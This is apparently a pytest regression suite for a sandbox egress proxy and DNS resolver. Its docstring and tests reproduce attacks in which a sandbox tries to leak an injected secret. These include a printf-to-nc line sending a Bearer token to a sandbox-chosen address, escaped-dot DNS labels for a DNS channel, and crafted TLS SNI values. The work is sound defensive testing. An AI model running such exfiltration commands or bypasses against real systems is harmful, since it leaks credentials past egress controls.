"""Hardening: where a secret's value may go, and which names the egress path takes (attack review of
issue 33).

S1. A secret's value went in clear to an address the sandbox chose. On port 80 the proxy handed a
    connection to the interceptor by its Host alone; when that name was not allowed by a name rule,
    an address rule allowed the connection and the interceptor dialled the sandbox's own
    destination: `--allow 10.251.N.2 --secret TOKEN=V@api.example.test` and
    `printf 'GET / ...Host: api.example.test...Bearer $TOKEN' | nc 10.251.N.2 80` gave the server at
    10.251.N.2 the value V (on 443 likewise, to any server with a certificate for the name). Fixed
    (network/proxy.py, intercept.py): a value is put in only on a connection the daemon dialled
    itself, by the secret's host name, over verified TLS (port 443); never plain HTTP, never a
    destination the sandbox picked. Elsewhere the placeholder goes out as it is.
S1b. A tenant grant of `all` admitted any public address rule the tenant named (the way the value
    above reached a tenant's own server, and an address rule is decided before the "egress host's
    own address" check `*` makes). Fixed (network/policy.py Rule.covers): `all` (and a build's `*`)
    covers names, `*.` suffixes and `*`, not address rules: an address is the operator's to grant.
S2. An escaped dot passed a wildcard rule: with `*.allowed.test`, a DNS question whose first label
    is `x.allowed` (a dot inside a label) read as text `x\\.allowed.test`, passed the text suffix
    check and was forwarded upstream (a DNS channel to the rule's parent zone, `test`); a TLS SNI
    of such text went the same way through the proxy's lookup. Fixed (network/policy.py host_name,
    resolver.py, upstream.py): only plain host names (labels of letters, digits, '-', '_', 1-63
    bytes, 253 in all) are decided, compared label by label and asked upstream from their labels.

Everything real: the proxy and resolver on a router namespace (netlab.ProxyRig), the upstream a
netlab internet this module made (every packet stays in namespaces made here); the cross-tenant
case through the engine, its tenancy and the real egress daemon with the same kind of upstream."""

from __future__ import annotations

import json
import os
import shutil
import socket
import ssl
import struct

import dns.message
import dns.rcode
import pytest

from netlab import ALLOWED, OTHER, proxy_rig, read_all
from sandtree.errors import Forbidden
from sandtree.network.policy import Grant, Policy
from sandtree.network.trust import bundle, link_ca, parse_secrets

pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("nft"), reason="needs root and nft")
VALUE = "REAL-hardening-value-7c41e0aa93"


@pytest.fixture(scope="module")
def rig():
    with proxy_rig(211) as r:
        yield r


@pytest.fixture(autouse=True)
def fresh(rig):
    from sandtree.network.state import Usage
    rig.link.usage = Usage()
    rig.link.names.clear()
    rig.link.policy = None
    yield
    rig.link.secrets, rig.link.ca = [], None
    assert rig.lab.trap_hits() == {}, "a never-reach address accepted a connection"


def _secret(rig, hosts) -> str:
    secrets = parse_secrets({"TOKEN": {"value": VALUE, "hosts": hosts}})
    rig.link.secrets, rig.link.ca = secrets, link_ca(rig.link.key, secrets)
    return secrets[0].placeholder


def _sandbox_tls(rig) -> ssl.SSLContext:
    """What the sandbox trusts: its image's store (here the lab's CA) + the link's CA."""
    with open(rig.lab.ca_file, "rb") as f:
        return ssl.create_default_context(cadata=bundle(rig.link.ca.pem(), f.read()).decode())


def _plain(rig, ip, port, head: str) -> bytes:
    s = rig.connect(ip, port)
    with s:
        s.sendall(head.encode())
        return read_all(s)


def _tls(rig, ip, sni, head: str) -> bytes:
    s = rig.connect(ip, 443)
    with _sandbox_tls(rig).wrap_socket(s, server_hostname=sni) as t:
        t.sendall(head.encode())
        return read_all(t)


def _auth_at(rig, n: int) -> list[tuple[str, str]]:
    """(address, Authorization) of the lab's requests since `n`."""
    return [(r["address"], r["headers"].get("authorization")) for r in rig.lab.requests[n:]]


# ---- S1. the value goes only where the daemon dialled the secret's host over verified TLS -------

def test_plain_http_to_an_address_rule_gets_the_placeholder_never_the_value(rig):
    """The reproduction: an address rule, a Host the secret is for, plain HTTP."""
    ph = _secret(rig, ["api.example.test"])
    rig.policy([OTHER])
    n = len(rig.lab.requests)
    out = _plain(rig, OTHER, 80, f"GET / HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer {ph}\r\n"
                                 "Connection: close\r\n\r\n")
    got = _auth_at(rig, n)
    assert VALUE not in json.dumps(got) and VALUE.encode() not in out, got
    assert got == [(OTHER, f"Bearer {ph}")], (got, out[:200])


def test_plain_http_to_the_secrets_own_host_gets_the_placeholder(rig):
    """Dialled by name, but in clear: the value would cross every network on the way."""
    ph = _secret(rig, ["allowed.test"])
    rig.policy(["allowed.test"])
    n = len(rig.lab.requests)
    out = _plain(rig, ALLOWED, 80, f"GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer {ph}\r\n"
                                   "Connection: close\r\n\r\n")
    assert _auth_at(rig, n) == [(ALLOWED, f"Bearer {ph}")], out[:200]


def test_https_to_an_address_rule_is_not_intercepted_and_gets_the_placeholder(rig):
    """SNI the secret's host, to an address the sandbox chose (allowed by an address rule): before,
    the daemon dialled that address and any server there with a certificate for the name got the
    value. Now the connection is relayed as it is: the sandbox's own TLS reaches that server, which
    sees the placeholder."""
    ph = _secret(rig, ["allowed.test"])
    rig.policy([OTHER])
    n = len(rig.lab.requests)
    out = _tls(rig, OTHER, "allowed.test", f"GET /t HTTP/1.1\r\nHost: allowed.test\r\n"
                                           f"Authorization: Bearer {ph}\r\nConnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200"), out[:200]
    assert _auth_at(rig, n) == [(OTHER, f"Bearer {ph}")]


def test_https_by_name_gets_the_value_at_the_names_address_not_the_sandboxs(rig):
    """Where the secret works: the name is allowed, the daemon resolves and dials it (the address the
    sandbox connected to, an /etc/hosts trick, is ignored) and verifies its certificate."""
    ph = _secret(rig, ["allowed.test"])
    rig.policy(["allowed.test", OTHER])
    n = len(rig.lab.requests)
    out = _tls(rig, OTHER, "Allowed.TEST", f"GET /t HTTP/1.1\r\nHost: allowed.test.:443\r\n"
                                            f"Authorization: Bearer {ph}\r\nConnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200") and VALUE.encode() not in out, out[:200]
    assert _auth_at(rig, n) == [(ALLOWED, f"Bearer {VALUE}")]


def test_http_on_another_port_and_an_sni_other_than_the_host_get_the_placeholder(rig):
    ph = _secret(rig, ["allowed.test"])
    rig.policy([f"{OTHER}/32:7", "other.test"])
    s = rig.connect(OTHER, 7)
    with s:                                                             # port 7 echoes what arrived
        s.sendall(f"GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer {ph}\r\n\r\n".encode())
        out = b""
        while b"\r\n\r\n" not in out and (more := s.recv(65536)):
            out += more
    assert ph.encode() in out and VALUE.encode() not in out
    n = len(rig.lab.requests)
    _tls(rig, OTHER, "other.test", f"GET / HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer {ph}\r\n"
                                   "Connection: close\r\n\r\n")
    assert _auth_at(rig, n) == [(OTHER, f"Bearer {ph}")]


def test_connect_and_a_pipelined_request_for_another_host_are_refused_on_an_intercepted_connection(rig):
    """CONNECT asks the secret's host to tunnel elsewhere: refused (405) before anything is sent.
    A second request pipelined behind the first naming another host: 421, never sent."""
    ph = _secret(rig, ["allowed.test"])
    rig.policy(["allowed.test"])
    n = len(rig.lab.requests)
    out = _tls(rig, ALLOWED, "allowed.test", f"CONNECT other.test:80 HTTP/1.1\r\nHost: allowed.test\r\n"
                                             f"Proxy-Authorization: Bearer {ph}\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 405"), out[:200]
    assert rig.lab.requests[n:] == []
    out = _tls(rig, ALLOWED, "allowed.test", f"GET /a HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer {ph}"
                                             f"\r\n\r\nGET /b HTTP/1.1\r\nHost: other.test\r\n"
                                             f"Authorization: Bearer {ph}\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 421" in out, out[:300]
    assert [r["path"] for r in rig.lab.requests[n:]] == ["/a"]


# ---- S1b. a tenant's `all` does not cover address rules ------------------------------------------

def test_a_grant_of_all_covers_names_and_star_but_not_address_rules():
    pub = Grant.parse("all")
    assert Policy.from_value(["allowed.test", "*.example.org:443", "*"]).within(pub) is None
    for rule in (f"{OTHER}/32", "203.0.113.0/24:443", "[2001:db8::1]/128"):
        assert "beyond" in Policy.from_value([rule]).within(pub), rule
    assert Policy.from_value([f"{OTHER}/32"]).within(Grant.parse([f"{OTHER}/32"])) is None   # named: yes
    assert Policy.from_value([f"{OTHER}/32"]).within(Grant.parse(["11.0.0.0/8"])) is None


# ---- S2. only plain host names are decided and asked upstream -------------------------------------

def _wire_query(labels: list[bytes], qtype: int = 1, qid: int = 0x4242) -> bytes:
    """A DNS query built byte by byte (dnspython refuses to build some of these)."""
    q = b"".join(bytes([len(lb)]) + lb for lb in labels) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def _ask(rig, wire: bytes):
    s = rig.sock(socket.SOCK_DGRAM)
    with s:
        s.settimeout(2)
        s.sendto(wire, (rig.link.gateway, 53))
        try:
            return dns.message.from_wire(s.recv(4096))
        except socket.timeout:
            return None


def _dns_hits(rig) -> int:
    return sum(v for k, v in rig.lab.hits.items() if k[0] == "dns")


@pytest.mark.parametrize("labels", [
    [b"x.allowed", b"test"],                 # text x\.allowed.test: a name in `test`, the rule's parent
    [b"x.y", b"allowed", b"test"], [b"x\x00y", b"allowed", b"test"], [b"x\\y", b"allowed", b"test"],
    [b"x y", b"allowed", b"test"], [b"caf\xc3\xa9", b"allowed", b"test"], [b"-x", b"allowed", b"test"]],
    ids=["dot-parent", "dot", "nul", "backslash", "space", "utf8", "leading-hyphen"])
def test_a_label_that_is_not_a_host_name_label_is_refused_and_not_forwarded(rig, labels):
    rig.policy(["*.allowed.test"])
    before = _dns_hits(rig)
    r = _ask(rig, _wire_query(labels))
    assert r is not None and r.rcode() in (dns.rcode.NXDOMAIN, dns.rcode.REFUSED) and not r.answer
    assert _dns_hits(rig) == before, "the name was asked upstream"
    assert rig.link.usage.dns_refused == 1


def test_a_label_over_63_and_a_name_over_255_octets_are_not_forwarded(rig):
    rig.policy(["*.allowed.test"])
    before = _dns_hits(rig)
    r = _ask(rig, _wire_query([b"a" * 64, b"allowed", b"test"]))    # length 64 is no label type
    assert r is None or r.rcode() != dns.rcode.NOERROR
    r = _ask(rig, _wire_query([b"a" * 63] * 3 + [b"a" * 52, b"allowed", b"test"]))     # 257 octets
    assert r is None or r.rcode() != dns.rcode.NOERROR
    assert _dns_hits(rig) == before


def test_upper_case_and_a_plain_subdomain_still_resolve_and_the_parent_does_not_match(rig):
    rig.policy(["*.allowed.test"])
    r = _ask(rig, _wire_query([b"WWW", b"Allowed", b"TEST"]))
    assert r.rcode() == dns.rcode.NOERROR and [str(x) for rr in r.answer for x in rr] == [ALLOWED]
    before = _dns_hits(rig)
    r = _ask(rig, _wire_query([b"allowed", b"test"]))               # `*.x` names below x, not x
    assert r.rcode() == dns.rcode.NXDOMAIN and _dns_hits(rig) == before


def _client_hello(name: bytes) -> bytes:
    """A minimal TLS ClientHello whose SNI is `name` as given (no client library sends these)."""
    sni = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    ext = struct.pack("!HH", 0, len(sni)) + sni
    body = (b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
            + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


@pytest.mark.parametrize("name", [b"sni\\.allowed.allowed.test", b"sni\\000y.allowed.test", b"a..allowed.test"])
def test_an_sni_that_is_not_a_host_name_is_refused_and_not_looked_up(rig, name):
    """(Names no other test here asks: the upstream's answer cache would hide a lookup.)"""
    rig.policy(["*.allowed.test"])
    before, hits = _dns_hits(rig), sum(v for k, v in rig.lab.hits.items() if k[1] == 443)
    s = rig.connect(ALLOWED, 443)
    with s:
        s.sendall(_client_hello(name))
        try:
            got = s.recv(100)
        except (ConnectionError, socket.timeout):
            got = b""
    assert got == b""
    assert _dns_hits(rig) == before, "the SNI was asked upstream"
    assert sum(v for k, v in rig.lab.hits.items() if k[1] == 443) == hits


# ---- S1, across tenants: an operator's secret shared with a tenant ---------------------------------

def test_an_operators_secret_shared_with_a_tenant_never_reaches_the_tenants_address(tmp_path):
    """The operator stores SHARED for allowed.test and shares it with alice (she may use it by name,
    never read it). Alice's grant names an address (11.1.1.11, standing for her own server); her run
    sends the placeholder there over plain HTTP and over TLS with SNI allowed.test: the server at
    that address gets the placeholder both times; a grant of `all` does not admit that address rule
    at all; and by name, over the daemon's verified TLS, allowed.test still gets the value."""
    from test_secret_store import make_tls_rootfs        # the same static OpenSSL client (tlsget)
    from netlab import NetLab
    from sandtree.engine import Engine
    from sandtree.network.client import Egress

    lab = NetLab()
    try:
        root = make_tls_rootfs(tmp_path, lab.ca_file)
    except BaseException:
        lab.close()
        raise
    e = Engine(str(tmp_path / "st"), warm=0)
    e._egress = Egress(e.store.home, upstream_netns=lab.path, upstream_dns=f"{lab.dns[0]}:{lab.dns[1]}",
                       upstream_ca=lab.ca_file)
    try:
        img = e.import_path(root)
        e.share(img)
        e.secret_set("SHARED", VALUE, ["allowed.test"], tenants=["alice", "carol"])
        t = e.tenancy
        alice = e.as_tenant(t.authenticate(t.create_token("alice", network=[OTHER, "allowed.test"])["token"]))
        carol = e.as_tenant(t.authenticate(t.create_token("carol", network="all")["token"]))
        script = (f"printf 'GET /plain HTTP/1.1\\r\\nHost: allowed.test\\r\\nAuthorization: Bearer %s\\r\\n"
                  f"Connection: close\\r\\n\\r\\n' \"$SHARED\" | nc -w 5 {OTHER} 80; echo; "
                  f"TOKEN=$SHARED tlsget {OTHER} 443 allowed.test /tls; echo")
        n = len(lab.requests)
        rec = alice.run(img, script, network=[OTHER], secrets=["SHARED"])
        got = [(r["address"], r["path"], r["headers"].get("authorization")) for r in lab.requests[n:]]
        assert VALUE not in json.dumps(got), got
        assert sorted(got) == sorted([(OTHER, "/plain", got[0][2]), (OTHER, "/tls", got[0][2])]), \
            (got, rec.stdout, rec.stderr)
        assert got[0][2].startswith("Bearer sandtree-secret-SHARED-")
        assert VALUE.encode() not in rec.stdout + rec.stderr
        with pytest.raises(Forbidden, match="beyond"):
            carol.run(img, "true", network=[OTHER], secrets=["SHARED"])
        n = len(lab.requests)
        rec = carol.run(img, "TOKEN=$SHARED tlsget 11.1.1.10 443 allowed.test /byname", network=["allowed.test"],
                        secrets=["SHARED"])
        got = [(r["address"], r["headers"].get("authorization")) for r in lab.requests[n:]]
        assert got == [(ALLOWED, f"Bearer {VALUE}")], (got, rec.stderr)
        assert VALUE.encode() not in rec.stdout + rec.stderr
        assert lab.trap_hits() == {}
    finally:
        try:
            e._egress.stop_daemon()
        finally:
            e.close()
            lab.close()
